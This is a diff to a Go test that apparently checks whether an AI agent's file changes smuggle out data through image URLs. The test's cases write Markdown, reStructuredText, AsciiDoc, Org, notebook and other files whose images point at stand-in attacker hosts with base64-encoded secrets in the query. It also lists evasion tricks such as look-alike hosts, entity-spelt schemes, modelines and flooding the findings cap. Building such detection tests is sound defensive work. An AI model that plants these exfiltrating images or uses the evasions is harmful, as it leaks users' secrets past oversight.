@@ -2,6 +2,7 @@ package execute
 
 import (
 	"context"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -33,6 +34,14 @@ func TestRedTeamImagesCarryWhatTheAgentRead(t *testing.T) {
 	contained := agent.Containment{Sandbox: &sandbox.Sandbox{}, Egress: &agent.Egress{Rules: allowed}}
 	open := agent.Containment{}
 	leak := "https://drop.attacker.example/p.png?d=c2VjcmV0LWFwaS1rZXk"
+	// Twenty files that show an image they held already, touched, fill
+	// the findings before the file that adds one.
+	manyBefore, manyAfter := map[string]string{}, map[string]string{"zz.md": "![ok](" + leak + ")\n"}
+	for i := range maxImageFindings {
+		name := fmt.Sprintf("docs/d%02d.md", i)
+		manyBefore[name] = "![badge](https://ci.example/badge.svg)\n"
+		manyAfter[name] = "![badge](https://ci.example/badge.svg)\n\nEdited.\n"
+	}
 	cases := []struct {
 		name    string
 		contain agent.Containment
@@ -46,12 +55,32 @@ func TestRedTeamImagesCarryWhatTheAgentRead(t *testing.T) {
 		{"reStructuredText", contained, nil, map[string]string{"docs/index.rst": ".. image:: " + leak + "\n"}, "docs/index.rst (an image from drop.attacker.example)"},
 		{"AsciiDoc imagesdir", contained, nil, map[string]string{"guide.adoc": ":imagesdir: https://imgs.attacker.example/k=c2VjcmV0\n\nimage::a.png[]\n"}, "guide.adoc (an image from imgs.attacker.example)"},
 		{"a notebook's Markdown cell", contained, nil, map[string]string{"analysis.ipynb": `{"cells": [{"cell_type": "markdown", "source": ["![p](` + leak + `)"]}], "nbformat": 4}`}, "analysis.ipynb (an image from drop.attacker.example)"},
+		{"an entity-spelt scheme", contained, nil, map[string]string{"e.md": "![ok](https&#58;//drop.attacker.example/p?d=1)\n"}, "e.md (an image from drop.attacker.example)"},
+		{"an image in a footnote", contained, nil, map[string]string{"f.md": "Note[^1].\n\n[^1]: ![ok](" + leak + ")\n"}, "f.md (an image from drop.attacker.example)"},
+		{"reStructuredText named .rst.txt", contained, nil, map[string]string{"docs/api.rst.txt": ".. image:: " + leak + "\n"}, "docs/api.rst.txt (an image from drop.attacker.example)"},
+		{"reStructuredText's raw HTML", contained, nil, map[string]string{"docs/raw.rst": ".. raw:: html\n\n   <img src=\"" + leak + "\">\n"}, "docs/raw.rst (an image from drop.attacker.example)"},
+		{"AsciiDoc's passthrough", contained, nil, map[string]string{"pass.adoc": "++++\n<img src=\"" + leak + "\">\n++++\n"}, "pass.adoc (an image from drop.attacker.example)"},
+		{"Textile", contained, nil, map[string]string{"README.textile": "!" + leak + "!\n"}, "README.textile (an image from drop.attacker.example)"},
+		{"Org", contained, nil, map[string]string{"notes.org": "[[" + leak + "]]\n"}, "notes.org (an image from drop.attacker.example)"},
+		{"RDoc, Creole, MediaWiki, Pod", contained, nil, map[string]string{"a.rdoc": "rdoc-image:" + leak + "\n", "b.creole": "{{" + leak + "}}\n", "c.wiki": leak + "\n", "d.pod": "=for html <img src=\"" + leak + "\">\n"}, "a.rdoc (an image from drop.attacker.example)"},
+		{"Lektor's contents.lr is Markdown", contained, nil, map[string]string{"site/contents.lr": "body:\n\n![ok](" + leak + ")\n"}, "site/contents.lr (an image from drop.attacker.example)"},
+		{"a Vim modeline makes a text file Markdown", contained, nil, map[string]string{"notes.txt": "![ok](" + leak + ")\n\n<!-- vim: set ft=markdown: -->\n"}, "notes.txt (an image from drop.attacker.example)"},
+		{"an Emacs modeline makes a file without extension Org", contained, nil, map[string]string{"NOTES": "# -*- mode: org -*-\n[[" + leak + "]]\n"}, "NOTES (an image from drop.attacker.example)"},
+		{"a notebook's cells hidden behind a key of another case", contained, nil, map[string]string{"case.ipynb": `{"cells": [{"cell_type": "markdown", "source": "![p](` + leak + `)"}], "Cells": [], "nbformat": 4}`}, "case.ipynb (an image from drop.attacker.example)"},
+		{"a notebook Go's JSON refuses (NaN)", contained, nil, map[string]string{"nan.ipynb": `{"cells": [{"cell_type": "markdown", "source": "![p](` + leak + `)", "metadata": {"x": NaN}}], "nbformat": 4}`}, "nan.ipynb (an image from drop.attacker.example)"},
 		{"github.com behind a user name", contained, nil, map[string]string{"x.md": "![x](https://github.com@drop.attacker.example/p)\n"}, "x.md (an image from drop.attacker.example)"},
 		{"a Pages site is its owner's", contained, nil, map[string]string{"x.md": "![x](https://attacker.github.io/p?d=1)\n"}, "x.md (an image from attacker.github.io)"},
 		{"an allowed host", contained, nil, map[string]string{"README.md": "![ci](https://img.shields.io/badge/x-y-green)\n"}, ""},
 		{"GitHub's own", contained, nil, map[string]string{"README.md": "![a](https://github.com/o/r/actions/workflows/ci.yml/badge.svg) ![b](https://raw.githubusercontent.com/o/r/main/a.png)\n"}, ""},
 		{"an image the file had already", contained, map[string]string{"README.md": "![logo](https://cdn.example/logo.png)\n"},
 			map[string]string{"README.md": "![logo](https://cdn.example/logo.png)\n\nMore text.\n"}, ""},
+		{"an image the file had, with another query", contained, map[string]string{"README.md": "![logo](https://cdn.example/logo.png?v=1)\n"},
+			map[string]string{"README.md": "![logo](https://cdn.example/logo.png?v=c2VjcmV0)\n"}, "README.md (an image from cdn.example)"},
+		{"text moved into a Markdown file", contained, map[string]string{"notes.txt": "![ok](" + leak + ")\n"},
+			map[string]string{"NOTES.MD": "![ok](" + leak + ")\n"}, "NOTES.MD (an image from drop.attacker.example)"},
+		{"an allowed host's look-alikes", contained, nil, map[string]string{"l.md": "![a](https://evil.example%2F.img.shields.io/x) ![b](https://img.shields.io%40evil.example/y) ![c](https://img.shields.io\uff0eevil.example/z)\n"},
+			"l.md (an image from evil.example%2f.img.shields.io, img.shields.io%40evil.example, img.shields.io\uff0eevil.example)"},
+		{"after twenty files showing images they held", contained, manyBefore, manyAfter, "zz.md (an image from drop.attacker.example)"},
 		{"a link is not fetched", contained, nil, map[string]string{"x.md": "[report](" + leak + ")\n"}, ""},
 		{"a file GitHub shows as text", contained, nil, map[string]string{"notes.txt": "![ok](" + leak + ")\n"}, ""},
 		{"an open network", open, nil, map[string]string{"x.md": "![ok](" + leak + ")\n"}, ""},
@@ -64,6 +93,9 @@ func TestRedTeamImagesCarryWhatTheAgentRead(t *testing.T) {
 			repo, tip := testRepo(t)
 			if len(c.before) > 0 {
 				for name, text := range c.before {
+					if err := os.MkdirAll(filepath.Dir(filepath.Join(repo.Root, name)), 0o755); err != nil {
+						t.Fatal(err)
+					}
 					if err := os.WriteFile(filepath.Join(repo.Root, name), []byte(text), 0o644); err != nil {
 						t.Fatal(err)
 					}
